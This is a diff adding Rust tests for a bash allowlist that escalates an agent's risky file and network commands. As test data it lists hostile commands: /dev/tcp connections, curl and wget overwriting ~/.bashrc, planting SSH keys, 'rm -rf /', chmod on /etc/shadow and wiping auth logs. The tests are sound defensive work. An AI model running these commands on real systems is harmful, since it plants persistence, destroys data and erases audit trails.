@@ -755,3 +755,379 @@ fn long_lines_are_judged_in_linear_time() {
         assert!(took < limit, "{took:?} for {}…: {:?}", &line[..20], answer.decision);
     }
 }
+
+// --- the writes and network of issue 25: each of these was approved before the file
+// utilities, curl, wget and /dev/tcp were catalogued ---
+
+/// A step that allows the file utilities and network tools, writing only under /workspace.
+fn workspace() -> BashAllowlist {
+    step(json!({
+        "allowed_commands": [
+            "cat", "echo", "curl", "wget", "scp", "rsync", "sftp", "cp", "mv", "ln", "link", "install", "touch",
+            "mkdir", "mkfifo", "rm", "rmdir", "unlink", "shred", "chmod", "chown", "chgrp", "truncate", "fallocate",
+            "split", "csplit", "unzip", "tar", "patch"
+        ],
+        "allowed_write_paths": ["/workspace/**"],
+    }))
+}
+
+#[test]
+fn curl_and_wget_writes_and_configuration_escalate() {
+    let step = workspace();
+    assert_escalates(
+        &step,
+        &[
+            "curl -o ~/.bashrc https://example.com/x",
+            "curl -o /home/agent/.bashrc https://example.com/x",
+            "curl -O https://example.com/x",
+            "curl --remote-name https://example.com/x",
+            "curl --remote-name-all https://example.com/x",
+            "curl --output F https://example.com/x",
+            "curl --output=F https://example.com/x",
+            "curl --outp F https://example.com/x",
+            "curl --output-dir /workspace https://example.com/x",
+            "curl -K cfg https://example.com/x",
+            "curl --config cfg https://example.com/x",
+            "curl --config=cfg https://example.com/x",
+            "curl -D F https://example.com/x",
+            "curl --dump-header=F https://example.com/x",
+            "curl -sO https://example.com/x",
+            "curl -sJO https://example.com/x",
+            "curl -so F https://example.com/x",
+            "curl -sKcfg https://example.com/x",
+            "curl -sofile https://example.com/x",
+            "curl -fsSLo F https://example.com/x",
+            "curl -c jar https://example.com/x",
+            "curl --trace /tmp/t https://example.com/x",
+            "curl --stderr F https://example.com/x",
+            "curl --libcurl prog.c https://example.com/x",
+            "curl -o '/workspace/#1' 'https://example.com/{a,b}'",
+            "curl --create-dirs -o /workspace/a/b https://example.com/x",
+            "curl -T /etc/passwd file:///workspace/../home/agent/.bashrc",
+            "curl -T /tmp/evil file:///home/agent/.bashrc",
+            "curl --unix-socket /var/run/docker.sock http://x/containers/json",
+            "curl -w @fmt https://example.com/x",
+            "curl -w '%output{/home/agent/.bashrc}x' https://example.com/x",
+            "curl --expand-output '{{h}}/x' https://example.com/x",
+            "curl -o $HOME/x https://example.com/x",
+            "wget https://example.com/x",
+            "wget -q https://example.com/x",
+            "wget -O ~/.bashrc https://example.com/x",
+            "wget -O /home/agent/.bashrc https://example.com/x",
+            "wget --output-document=/etc/x https://example.com/x",
+            "wget -P /workspace https://example.com/x",
+            "wget --directory-prefix=/workspace https://example.com/x",
+            "wget -O - -o /home/agent/log https://example.com/x",
+            "wget -O - -a log https://example.com/x",
+            "wget -O - -i urls.txt",
+            "wget -O - --input-file=urls.txt",
+            "wget -O - -e output_document=/home/agent/.bashrc https://example.com/x",
+            "wget -qO- -r https://example.com/",
+            "wget --spider --config=rc https://example.com/x",
+            "wget -O - --use-askpass=/tmp/evil https://example.com/x",
+            "sftp host",
+            "scp host:f /workspace/f",
+            "scp /workspace/f user@host:f",
+            "scp -D /tmp/evil /workspace/a /workspace/b",
+            "scp /tmp/evil /home/agent/.bashrc",
+            "rsync -a host:src /workspace/",
+            "rsync -a /tmp/evil /home/agent/",
+            "rsync -a src/ /home/agent/",
+            "rsync -T /tmp src /workspace/",
+        ],
+    );
+    assert_approves(
+        &step,
+        &[
+            "curl https://example.com/x",
+            "curl -fsSL https://example.com/x | cat",
+            "curl -s -o /dev/null -w '%{http_code}' https://example.com/x",
+            "curl -so /workspace/page.html https://example.com/x",
+            "curl --output /workspace/a --output=/workspace/b 'https://example.com/{a,b}'",
+            "curl -XPOST -H 'Accept: x' -d@body.json https://example.com/x",
+            "curl --cookie 'a=b' -D - https://example.com/x",
+            "wget -qO- https://example.com/x",
+            "wget -O /workspace/x https://example.com/x",
+            "wget --spider https://example.com/x",
+            "wget -nv -O - https://example.com/x",
+            "scp /workspace/a /workspace/b",
+            "rsync -a /workspace/src/ /workspace/dst",
+            "rsync -av /workspace/src /workspace/dst/",
+        ],
+    );
+    assert!(explanation(&step, "curl -sO https://example.com/x").contains("'-O' writes a file named from the URL"));
+    assert!(explanation(&step, "wget https://example.com/x").contains("without '-O'"));
+}
+
+#[test]
+fn redirections_to_and_from_dev_tcp_and_udp_escalate_whatever_the_program() {
+    let step = step(json!({"allowed_commands": ["cat", "echo", "ls"], "allowed_write_paths": ["/**", "**"]}));
+    assert_escalates(
+        &step,
+        &[
+            "cat < /dev/tcp/example.com/80",
+            "cat </dev/tcp/10.0.0.1/4444",
+            "cat 3< /dev/tcp/example.com/80",
+            "echo x > /dev/tcp/example.com/80",
+            "echo x >> /dev/udp/example.com/53",
+            "cat <> /dev/tcp/example.com/80",
+            "echo x &> /dev/tcp/example.com/80",
+            "echo x &>> /dev/tcp/example.com/80",
+            "echo x >& /dev/tcp/example.com/80",
+            "cat <& /dev/tcp/example.com/80",
+            "ls 9<>/dev/tcp/example.com/80",
+            "ls {fd}<>/dev/tcp/example.com/80",
+            "< /dev/tcp/example.com/80",
+            "(cat) < /dev/tcp/example.com/80",
+            "{ cat; } < /dev/udp/example.com/53",
+            "cat < //dev/./tcp/example.com/80",
+            "cat < '/dev/tcp/example.com/80'",
+            "cat < /dev/tc\\p/example.com/80",
+            "echo $(cat < /dev/tcp/example.com/80)",
+            "cat < \"$f\"",
+            "cat < $HOME/x",
+            "cat < /dev/tc*/example.com/80",
+        ],
+    );
+    assert_escalates(&step, &["cat < /data/$f", "cat < /dev/$proto/example.com/80", "cat < ''/dev/tcp/h/80"]);
+    assert_approves(
+        &step,
+        &[
+            "cat <<< /dev/tcp/example.com/80",
+            "cat < in.txt",
+            "echo /dev/tcp/x/80",
+            "cat /dev/null",
+            "cat < <(ls)",
+            "cat < in$n.txt",
+            "cat < data/*.txt",
+        ],
+    );
+    assert!(
+        explanation(&step, "cat < /dev/tcp/h/80").contains("opens a network connection"),
+        "{}",
+        explanation(&step, "cat < /dev/tcp/h/80")
+    );
+}
+
+#[test]
+fn file_utilities_write_only_inside_the_allowed_paths() {
+    let step = workspace();
+    assert_escalates(
+        &step,
+        &[
+            // The issue's lines.
+            "cp /tmp/evil ~/.bashrc",
+            "cp /tmp/evil /home/agent/.bashrc",
+            "cp -t ~/.config/autostart /tmp/evil.desktop",
+            "cp -t /home/agent/.config/autostart /tmp/evil.desktop",
+            "mv /tmp/evil /usr/local/bin/ls",
+            "ln -sf /tmp/evil ~/.bashrc",
+            "ln -sf /tmp/evil /home/agent/.bashrc",
+            "touch ~/.ssh/authorized_keys",
+            "touch /home/agent/.ssh/authorized_keys",
+            "install /tmp/evil /usr/bin/sudo",
+            "mkdir -p ~/.config/systemd/user",
+            "mkdir -p /home/agent/.config/systemd/user",
+            // Every form of the target.
+            "cp --target-directory=/etc /tmp/x",
+            "cp --target-directory /etc /tmp/x",
+            "cp --target /etc /tmp/x",
+            "cp -t/etc /tmp/x",
+            "cp -rt /etc /tmp/x",
+            "cp /workspace/a /workspace/b /etc",
+            "cp /workspace/a /workspace",
+            "cp -r /workspace/a /etc/",
+            "cp /workspace/a /workspace/../etc/x",
+            "cp /workspace/a workspace/x",
+            "cp /workspace/a ./x",
+            "cp /workspace/a /workspace/*",
+            "cp /workspace/a $DEST",
+            "cp -s /etc/passwd /workspace/p",
+            "cp -b /workspace/a /workspace/b",
+            "cp --backup=numbered /workspace/a /workspace/b",
+            "cp --parents ../x /workspace",
+            "mv /workspace/a /etc/x",
+            "mv -t /etc /workspace/a",
+            "mv /etc/passwd /workspace/p",
+            "mv /workspace /workspace2",
+            "ln -s /etc /workspace/etc",
+            "ln -s ../../etc /workspace/a/etc",
+            "ln -s /home/agent/.bashrc /workspace/rc",
+            "ln /home/agent/.bashrc /workspace/rc",
+            "ln -sft /home/agent /tmp/evil",
+            "ln -s /workspace/a",
+            "link /home/agent/.bashrc /workspace/rc",
+            "install -d /etc/evil",
+            "install -t /usr/bin /tmp/evil",
+            "install -D /tmp/evil /usr/lib/x/y",
+            "install -s /workspace/a /workspace/b",
+            "install --strip-program=/tmp/evil -s /workspace/a /workspace/b",
+            "mkdir /etc/x",
+            "mkdir -p /workspace-other/x",
+            "mkdir -p workspace/x",
+            "mkfifo /tmp/fifo",
+            "rm /etc/passwd",
+            "rm -rf /",
+            "rm -rf /workspace",
+            "rm -rf /workspace/../etc",
+            "rm -r ~",
+            "rm /dev/null",
+            "rm -rf /workspace/*",
+            "rmdir /etc/x",
+            "rmdir -p /workspace/a/b",
+            "unlink /etc/passwd",
+            "shred -u /home/agent/.bashrc",
+            "chmod 777 /etc/shadow",
+            "chmod -w /etc/passwd",
+            "chmod -R 777 /workspace/../etc",
+            "chmod u+s /tmp/evil",
+            "chmod --reference=/workspace/a /etc/passwd",
+            "chown -R agent /etc",
+            "chown agent: /etc/passwd",
+            "chgrp agent /etc/passwd",
+            "truncate -s 0 /var/log/auth.log",
+            "truncate --size=0 /home/agent/.bash_history",
+            "fallocate -l 1G /tmp/big",
+            "split /workspace/in",
+            "split /workspace/in /tmp/part",
+            "split --filter='sh -c id' /workspace/in /workspace/p",
+            "csplit -f /tmp/part /workspace/in 10",
+            "unzip a.zip",
+            "unzip a.zip -d /etc",
+            "unzip -o a.zip -d/home/agent",
+            "unzip -qd /etc a.zip",
+            "unzip -: a.zip -d /workspace",
+            "tar -xf a.tar",
+            "tar xf a.tar",
+            "tar -xf a.tar -C /etc",
+            "tar -xzf a.tgz --directory=/home/agent",
+            "tar -xf a.tar --directory /etc",
+            "tar -C /etc -xf a.tar",
+            "tar -xCf /etc a.tar",
+            "tar xfC a.tar /etc",
+            "tar -xf a.tar -C /workspace -C /etc",
+            "tar -xPf a.tar -C /workspace",
+            "tar -xf a.tar --absolute-names -C /workspace",
+            "tar -xf a.tar --transform='s,^,/etc/,' -C /workspace",
+            "tar -xf a.tar --one-top-level=/etc -C /workspace",
+            "patch -p1 < fix.diff",
+        ],
+    );
+    assert_approves(
+        &step,
+        &[
+            "cp /tmp/a /workspace/a",
+            "cp /tmp/a /workspace/",
+            "cp -t /workspace /tmp/a /tmp/b",
+            "cp -r /tmp/src /workspace/dst",
+            "cp -a /tmp/src /workspace/",
+            "cp --parents src/a.txt /workspace",
+            "cp -T /tmp/a /workspace/b",
+            "cp --help",
+            "mv /workspace/a /workspace/b",
+            "mv -t /workspace/dir /workspace/a /workspace/b",
+            "ln -s /workspace/a /workspace/link",
+            "ln -sf a /workspace/dir/link",
+            "ln -sfr /workspace/a /workspace/dir/",
+            "ln /workspace/a /workspace/b",
+            "link /workspace/a /workspace/b",
+            "install -m 755 /tmp/tool /workspace/bin/tool",
+            "install -D /tmp/tool /workspace/bin/deep/tool",
+            "install -d /workspace/a/b",
+            "touch /workspace/a /workspace/b",
+            "touch -d yesterday /workspace/a",
+            "mkdir /workspace/x",
+            "mkdir -p /workspace/x/y/z",
+            "mkdir -pm 700 /workspace/x",
+            "mkfifo /workspace/fifo",
+            "rm /workspace/a",
+            "rm -rf /workspace/build /workspace/dist",
+            "rm -f -- /workspace/-x",
+            "rmdir /workspace/a/b",
+            "unlink /workspace/a",
+            "shred -u /workspace/secret",
+            "chmod +x /workspace/run.sh",
+            "chmod -R u+w /workspace/dir",
+            "chmod -w /workspace/a",
+            "chown -R agent:agent /workspace/dir",
+            "chgrp staff /workspace/a",
+            "truncate -s 0 /workspace/log",
+            "fallocate -l 1M /workspace/big",
+            "split -l 100 /workspace/in /workspace/part-",
+            "csplit -f /workspace/part /workspace/in 10",
+            "unzip a.zip -d /workspace/x",
+            "unzip -l a.zip",
+            "unzip -p a.zip f | cat",
+            "tar -xf a.tar -C /workspace",
+            "tar -xzf a.tgz --directory=/workspace/x",
+            "tar -C /workspace -xf a.tar",
+            "tar xfC a.tar /workspace",
+            "tar -tf a.tar",
+            "tar -xOf a.tar f",
+            "patch --dry-run -p1 < /dev/null",
+        ],
+    );
+    let message = explanation(&step, "cp /tmp/evil /home/agent/.bashrc");
+    assert!(message.contains("'cp' writes to '/home/agent/.bashrc'"), "{message}");
+    assert!(explanation(&step, "cp /tmp/evil ~/.bashrc").contains("not plain text"));
+}
+
+#[test]
+fn a_relative_pattern_allows_relative_targets_and_the_working_directory_only_with_double_star() {
+    let out =
+        step(json!({"allowed_commands": ["cp", "tar", "mkdir", "rm", "unzip"], "allowed_write_paths": ["out/**"]}));
+    assert_approves(&out, &["cp a out/b", "mkdir -p out/x/y", "tar -xf a.tar -C out", "rm -r out/x"]);
+    assert_escalates(&out, &["tar -xf a.tar", "unzip a.zip", "cp a /out/b", "rm -r out", "mkdir -p x/out/y"]);
+    let everywhere = step(json!({"allowed_commands": ["tar", "unzip"], "allowed_write_paths": ["**"]}));
+    assert_approves(&everywhere, &["tar -xf a.tar", "unzip a.zip", "tar -xf a.tar -C sub"]);
+    assert_escalates(&everywhere, &["tar -xf a.tar -C /etc", "tar -xf a.tar -C ../x"]);
+}
+
+#[test]
+fn without_allowed_write_paths_the_file_utilities_write_nothing() {
+    let step = step(json!({"allowed_commands": ["cp", "mv", "rm", "mkdir", "touch", "tar", "curl", "tee"]}));
+    assert_escalates(
+        &step,
+        &["cp a b", "mv a b", "rm a", "mkdir a", "touch a", "tar -xf a.tar", "curl -o a https://x", "rm /dev/null"],
+    );
+    assert_approves(
+        &step,
+        &["cp --help", "tar -tf a.tar", "curl -o /dev/null https://x", "curl https://x | tee /dev/null"],
+    );
+}
+
+// --- the catalogue and its documentation ---
+
+/// The table of docs/shell-allowlist.md's "Options that run programs or write files".
+fn documented_table() -> String {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/shell-allowlist.md");
+    let doc = std::fs::read_to_string(path).expect("docs/shell-allowlist.md");
+    let start = doc.find("| Tool | Form | Effect |").expect("the catalogue's table");
+    doc[start..].lines().take_while(|line| line.starts_with('|')).map(|line| format!("{line}\n")).collect()
+}
+
+#[test]
+fn the_documentation_table_is_the_catalogue() {
+    let expected = catalogue::table();
+    assert!(
+        documented_table() == expected,
+        "docs/shell-allowlist.md's catalogue table differs from the catalogue; it should read:\n\n{expected}"
+    );
+}
+
+#[test]
+fn every_catalogued_option_is_documented_and_acted_on() {
+    let rows = catalogue::table();
+    let names: Vec<&str> = catalogue::CATALOGUE.iter().flat_map(|entry| entry.names.iter().copied()).collect();
+    let step = step(json!({ "allowed_commands": names }));
+    for (tool, options) in catalogue::catalogued_options() {
+        let row_text: String = rows.lines().filter(|row| row.starts_with(&format!("| `{tool}` |"))).collect();
+        for option in options {
+            // Named in a row, as `-o` or `--output`, followed by a value, a separator or the quote.
+            let named = [' ', '/', '`', '='].iter().any(|after| row_text.contains(&format!("`{option}{after}")));
+            assert!(named, "{tool} {option} is catalogued but not in the documentation's rows");
+            let line = format!("{tool} {option} /home/agent/.bashrc https://example.com/x");
+            assert_eq!(decision(&step, &line), Decision::Escalate, "{line:?}");
+        }
+    }
+}
